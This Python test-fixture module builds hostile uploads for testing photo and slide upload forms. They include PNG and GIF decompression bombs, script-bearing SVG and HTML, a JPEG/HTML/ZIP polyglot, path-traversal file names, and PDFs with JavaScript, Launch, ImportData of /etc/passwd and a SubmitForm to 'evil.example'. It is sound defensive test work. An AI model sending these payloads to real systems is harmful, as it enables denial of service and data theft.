"""Hostile uploads (QUALITY.md S-7), built in memory: every upload form is tested with all of them.

Each entry: a name, the bytes, the upload's file name and content type, and
whether a photo upload must accept it (re-encoded) or refuse it.
"""

from __future__ import annotations

import io
import struct
import zlib
from dataclasses import dataclass

import pikepdf
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject


@dataclass(frozen=True)
class Hostile:
    name: str
    data: bytes
    filename: str
    content_type: str
    accepted_as_photo: bool = False
    accepted_as_pdf: bool = False


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A PNG whose header claims 10 gigapixels; the compressed data is a few KB of zeros."""
    header = _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    data = compressor.compress(row * 200) + compressor.flush()
    return b"\x89PNG\r\n\x1a\n" + header + _png_chunk(b"IDAT", data) + _png_chunk(b"IEND", b"")


def gif_bomb() -> bytes:
    """A GIF with a 65535 × 65535 logical screen and a 65535 × 65535 frame of a few bytes."""
    screen = b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\x80\x00\x00" + b"\x00\x00\x00\xff\xff\xff"
    frame = b"\x2c" + struct.pack("<HHHH", 0, 0, 65535, 65535) + b"\x00" + b"\x02\x02\x44\x01\x00"
    return screen + frame + b"\x3b"


def image(fmt: str = "JPEG", size=(640, 480), mode: str = "RGB", **save) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, (200, 80, 40) if mode == "RGB" else None).save(out, fmt, **save)
    return out.getvalue()


def jpeg_with_gps() -> bytes:
    picture = Image.new("RGB", (320, 240), (10, 120, 200))
    exif = picture.getexif()
    exif[0x010F] = "SecretCam"  # Make
    gps = {1: "N", 2: (52.0, 7.0, 30.0), 3: "E", 4: (7.0, 37.0, 12.0)}
    exif[0x8825] = gps
    out = io.BytesIO()
    picture.save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue()


def animated_gif() -> bytes:
    frames = [Image.new("P", (64, 64), i) for i in range(3)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    return out.getvalue()


def pdf(pages: int = 2, *, javascript: bool = False, embedded: bool = False, encrypted: bool = False, landscape: bool = True) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=842 if landscape else 595, height=595 if landscape else 842)
    if javascript:
        js = writer._add_object(DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('x');")}))
        tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"), js])})
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
    if embedded:
        writer.add_attachment("payload.exe", b"MZ" + b"\x00" * 100)
    if encrypted:
        writer.encrypt("secret")
    writer.add_metadata({"/Title": "Folien"})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_open_action_launch() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pikepdf_slides(change) -> bytes:
    """Two landscape slides from pikepdf, changed by `change(pdf)`: how hostile decks are built beside plain ones."""
    with pikepdf.new() as document:
        for _ in range(2):
            document.add_blank_page(page_size=(842, 595))
        change(document)
        out = io.BytesIO()
        document.save(out)
    return out.getvalue()


def _javascript(document: pikepdf.Pdf) -> pikepdf.Dictionary:
    return document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('x');")))


def _link(document: pikepdf.Pdf, action: pikepdf.Dictionary, *, subtype: pikepdf.Name = pikepdf.Name.Link, **extra) -> None:
    """A clickable area on the first slide that runs `action`."""
    annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=subtype, Rect=[100, 100, 400, 200], Border=[0, 0, 0], A=action, **extra)
    document.pages[0].obj.Annots = document.make_indirect(pikepdf.Array([document.make_indirect(annotation)]))


def _uri(uri: str) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(uri))


def _open_action_javascript(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = _javascript(document)


def _open_action_chain(document: pikepdf.Pdf) -> None:
    # Harmless at first sight: go to slide 1, then (through /Next) run a script.
    page = document.pages[0].obj
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[page, pikepdf.Name.Fit], Next=pikepdf.Array([_javascript(document)]))


def _page_open_script(document: pikepdf.Pdf) -> None:
    document.pages[1].obj.AA = document.make_indirect(pikepdf.Dictionary(O=_javascript(document)))


def _outline_script(document: pikepdf.Pdf) -> None:
    with document.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Start", 0))
    document.Root.Outlines.First.A = _javascript(document)


def _rich_media(document: pikepdf.Pdf) -> None:
    content = pikepdf.Dictionary(Assets=pikepdf.Dictionary(Names=pikepdf.Array()))
    _link(document, _uri("https://example.org/"), subtype=pikepdf.Name.RichMedia, RichMediaContent=content)


def _file_attachment(document: pikepdf.Pdf) -> None:
    payload = pikepdf.Stream(document, b"MZ" + b"\x00" * 100, Type=pikepdf.Name.EmbeddedFile)
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("payload.exe"), EF=pikepdf.Dictionary(F=payload))
    annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[10, 10, 30, 30], FS=spec)
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(annotation)])


def _xfa_form(document: pikepdf.Pdf) -> None:
    xfa = pikepdf.Stream(document, b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>')
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)


def _safe_links(document: pikepdf.Pdf) -> None:
    # What real decks carry: a web link, a mail link, a jump to a slide, a start on slide 1.
    page = document.pages[0].obj
    document.Root.OpenAction = pikepdf.Array([page, pikepdf.Name.Fit])
    links = [
        _uri("https://www.example.org/foerderung"),
        _uri("mailto:info@example.org"),
        pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[document.pages[1].obj, pikepdf.Name.Fit]),
    ]
    page.Annots = pikepdf.Array(
        [
            document.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[10, 10 + 40 * i, 200, 40 + 40 * i], A=a))
            for i, a in enumerate(links)
        ]
    )


def active_pdfs() -> list[Hostile]:
    """PDFs that would run something, fetch something or hide a file: every one must be refused as slides (S-7)."""
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
    submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String("https://evil.example/collect")))
    import_data = pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=pikepdf.String("/etc/passwd"))
    goto_remote = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("file:///etc/passwd"), D=pikepdf.Array([0, pikepdf.Name.Fit]))
    cases = [
        ("PDF running JavaScript on open", _open_action_javascript),
        ("PDF whose open action chains to JavaScript through /Next", _open_action_chain),
        ("PDF with JavaScript on opening a page (/AA)", _page_open_script),
        ("PDF with a javascript: link", lambda d: _link(d, _uri("javascript:app.alert(document.cookie)"))),
        ("PDF with a hidden JavaScript: link", lambda d: _link(d, _uri("  JaVaScRiPt:app.alert(1)"))),
        ("PDF with a file: link", lambda d: _link(d, _uri("file:///etc/passwd"))),
        (
            "PDF with a link that chains to JavaScript",
            lambda d: _link(d, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/"), Next=_javascript(d))),
        ),
        ("PDF with a Launch link", lambda d: _link(d, launch)),
        ("PDF with a SubmitForm link", lambda d: _link(d, submit)),
        ("PDF with an ImportData link", lambda d: _link(d, import_data)),
        ("PDF with a GoToR link to file:", lambda d: _link(d, goto_remote)),
        ("PDF with a bookmark that runs JavaScript", _outline_script),
        ("PDF with a RichMedia annotation", _rich_media),
        ("PDF with an embedded file annotation", _file_attachment),
        ("PDF with an XFA form", _xfa_form),
    ]
    return [Hostile(name, _pikepdf_slides(change), "folien.pdf", "application/pdf") for name, change in cases]


def pdf_with_safe_links() -> bytes:
    return _pikepdf_slides(_safe_links)


JPEG = image()


def hostile_files() -> list[Hostile]:
    polyglot = JPEG + b"<html><script>alert(1)</script></html>" + b"PK\x03\x04zip-payload"
    return [
        Hostile("empty", b"", "leer.jpg", "image/jpeg"),
        Hostile("oversized photo (50 MB)", JPEG + b"\x00" * (50 * 1024 * 1024), "riesig.jpg", "image/jpeg"),
        Hostile("PNG decompression bomb", png_bomb(), "bomb.png", "image/png"),
        Hostile("GIF decompression bomb", gif_bomb(), "bomb.gif", "image/gif"),
        Hostile("truncated JPEG", JPEG[: len(JPEG) // 2], "halb.jpg", "image/jpeg"),
        Hostile("SVG with script", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "bild.svg", "image/svg+xml"),
        Hostile("HTML named .jpg", b"<!DOCTYPE html><script>alert(document.cookie)</script>", "foto.jpg", "image/jpeg"),
        Hostile("TIFF (not allowed)", image("TIFF"), "scan.tiff", "image/tiff"),
        Hostile("BMP (not allowed)", image("BMP"), "bild.bmp", "image/bmp"),
        Hostile("text file", "Nur Text äöü".encode(), "notiz.txt", "text/plain"),
        Hostile("executable", b"MZ\x90\x00" + b"\x00" * 512, "setup.jpg", "image/jpeg"),
        Hostile("JPEG/HTML/ZIP polyglot", polyglot, "poly.jpg", "image/jpeg", accepted_as_photo=True),
        Hostile("JPEG with EXIF GPS", jpeg_with_gps(), "urlaub.jpg", "image/jpeg", accepted_as_photo=True),
        Hostile("path traversal name", JPEG, "../../../etc/passwd.jpg", "image/jpeg", accepted_as_photo=True),
        Hostile("NUL and odd characters in the name", JPEG, "a\x00b<script>.jpg", "image/jpeg", accepted_as_photo=True),
        Hostile("PNG with transparency", image("PNG", mode="RGBA"), "logo.png", "image/png", accepted_as_photo=True),
        Hostile("animated GIF", animated_gif(), "anim.gif", "image/gif", accepted_as_photo=True),
        Hostile("CMYK JPEG", image("JPEG", mode="CMYK"), "druck.jpg", "image/jpeg", accepted_as_photo=True),
        Hostile("WebP", image("WEBP"), "bild.webp", "image/webp", accepted_as_photo=True),
        Hostile("1 × 20000 strip", image("PNG", size=(1, 20000)), "streifen.png", "image/png", accepted_as_photo=True),
        Hostile("valid PDF", pdf(), "folien.pdf", "application/pdf", accepted_as_pdf=True),
        Hostile("PDF with JavaScript", pdf(javascript=True), "js.pdf", "application/pdf"),
        Hostile("PDF with an embedded file", pdf(embedded=True), "anhang.pdf", "application/pdf"),
        Hostile("PDF that launches a program", pdf_open_action_launch(), "launch.pdf", "application/pdf"),
        Hostile("encrypted PDF", pdf(encrypted=True), "geheim.pdf", "application/pdf"),
        Hostile("truncated PDF", pdf(3)[:200], "kaputt.pdf", "application/pdf"),
        Hostile("PDF with 201 pages", pdf(201), "dick.pdf", "application/pdf"),
        Hostile("JPEG named .pdf", JPEG, "folien.pdf", "application/pdf", accepted_as_photo=True),  # the name is not trusted either way
        Hostile("PDF with web, mail and slide links", pdf_with_safe_links(), "links.pdf", "application/pdf", accepted_as_pdf=True),
        *active_pdfs(),
    ]
